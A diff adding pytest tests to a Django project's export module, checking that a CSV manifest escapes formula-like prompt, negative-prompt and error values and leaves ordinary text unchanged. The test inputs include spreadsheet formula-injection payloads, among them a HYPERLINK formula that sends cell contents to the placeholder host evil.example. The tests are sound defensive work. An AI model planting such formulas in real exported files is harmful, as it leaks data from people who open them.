@@ -1,5 +1,6 @@
 """The dry-run numbers (`jobs.estimates`) and the streamed ZIP export (`jobs.exports`)."""
 
+import csv
 import io
 import zipfile
 from decimal import Decimal
@@ -107,3 +108,26 @@ def test_one_image_used_for_several_seeds_gets_distinct_video_names(user):
     names = {exports.video_member_name(job) for job in batch.jobs.all()}
 
     assert len(names) == 3
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("prompt", ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+                                    "\tcmd", "\r=1"])
+def test_the_manifest_writes_formula_like_cells_as_text(user, prompt):
+    batch = make_batch(user, count=1, prompt="a slow pan")
+    batch.jobs.update(prompt=prompt, negative_prompt=prompt, error_message=prompt)
+
+    manifest = exports.manifest_csv(batch.jobs.all())
+
+    row = next(csv.DictReader(io.StringIO(manifest)))
+    assert row["prompt"] == row["negative_prompt"] == row["error"] == "'" + prompt
+    assert row["seed"] == str(batch.jobs.get().seed)  # numbers stay numbers
+
+
+@pytest.mark.django_db
+def test_the_manifest_leaves_ordinary_prompts_alone(user):
+    batch = make_batch(user, count=1, prompt="a slow pan, 50% zoom = fine")
+
+    row = next(csv.DictReader(io.StringIO(exports.manifest_csv(batch.jobs.all()))))
+
+    assert row["prompt"] == "a slow pan, 50% zoom = fine"
